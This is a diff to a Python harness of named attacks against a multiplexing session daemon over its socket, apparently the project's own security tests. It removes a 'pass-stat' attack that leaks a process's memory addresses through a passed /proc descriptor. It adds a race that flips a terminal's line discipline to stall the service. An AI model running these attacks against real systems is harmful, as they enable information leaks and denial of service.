@@ -156,39 +156,22 @@ def forked(work):
     if os.fork() == 0:
         die_with_parent()
         while True:
-            work()
+            with contextlib.suppress(OSError):
+                work()
 
 
-def discipline(path):
-    """A terminal from which somebody reads, which keeps its line discipline, while others change that: whoever asks the
-    terminal for anything waits for them, for five seconds at a time."""
+def discipline(path, mux):
+    """A terminal whose line discipline others change without end, N_TTY and N_NULL in turn, while somebody reads from it:
+    whoever asks the terminal for anything waits for them."""
     master, slave = os.openpty()
     KEPT.extend([master, slave])
     tty.setraw(slave)
     open_stream(path, slave, "sleep 0.2; cat >/dev/null", 1)
     open_stream(path, slave, "sleep 0.2; exec cat /dev/zero", 2).await_opened()
     forked(lambda: os.read(slave, 1))
-    for _ in range(4):
-        forked(lambda: fcntl.ioctl(slave, termios.TIOCSETD, struct.pack("i", 0)))
-
-
-def pass_stat(path, pid):
-    """What this user may open, and its reader's rights decide what is in it. Says what the command has read: the addresses
-    of the process's memory."""
-    fd = os.open(f"/proc/{pid}/stat", os.O_RDONLY)
-    ours, theirs = os.pipe()
-    client = native.Client(path, version=2)
-    KEPT.append(client)
-    client.acquire("t")
-    stream = client.streams[1] = native.Stream(client, 1, 0)
-    stream.rid = client.rid()
-    body = struct.pack(">III", stream.rid, 1, native.EXEC) + native.string("cat") + struct.pack(">I", 3)
-    client.socket.sendmsg([native.frame(native.MESSAGES["STREAM_OPEN_FDS"].number, body + b"\0" + struct.pack(">I", 0))],
-                          [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd, theirs]))])
-    os.close(theirs)
-    stream.await_end()
-    text = os.read(ours, 65536).rpartition(b")")[2].split()
-    print("addresses", *(int(field) for field in text[23:28]), flush=True)
+    for number in (0, 27, 0, 27):
+        forked(lambda number=number: fcntl.ioctl(slave, termios.TIOCSETD, struct.pack("i", number)))
+    open_session(mux, [slave] * 3, tty=1)
 
 
 def die_with_parent():
@@ -235,22 +218,24 @@ def locked(path, file, kind):
     open_stream(path, honest.fileno())
 
 
-def session_input(path, file):
-    """A session at a mux socket with such a file for its input."""
-    fds = [os.open(file, os.O_RDONLY), os.open(os.devnull, os.O_WRONLY), os.open(os.devnull, os.O_WRONLY)]
+def open_session(path, fds, tty=0):
+    """A session at a mux socket with those for its input and outputs."""
     s = connect(path)
     KEPT.extend([fds, s])
-    body = struct.pack(">6I", 0, 0, 0, 0, 0, 0) + struct.pack(">I", 0xFFFFFFFF) + native.string("") + native.string("cat")
+    body = struct.pack(">6I", 0, 0, tty, 0, 0, 0) + struct.pack(">I", 0xFFFFFFFF) + native.string("") + native.string("cat")
     for frame in (struct.pack(">II", 1, 4), struct.pack(">I", 0x10000002) + body):
         s.sendall(struct.pack(">I", len(frame)) + frame)
     for fd in fds:
         pass_one(s, fd)
 
 
+def session_input(path, file):
+    open_session(path, [os.open(file, os.O_RDONLY), os.open(os.devnull, os.O_WRONLY), os.open(os.devnull, os.O_WRONLY)])
+
+
 ATTACKS = {"linger": linger, "nested": nested, "surplus": surplus, "urgent": urgent, "unread": unread, "drop-file": drop_file,
            "drop-many": drop_many, "input-file": input_file, "locked": locked,
-           "session-input": session_input, "terminal-output": terminal_output,
-           "pass-stat": pass_stat}
+           "session-input": session_input, "terminal-output": terminal_output}
 
 if __name__ == "__main__":
     ATTACKS[sys.argv[1]](*sys.argv[2:])
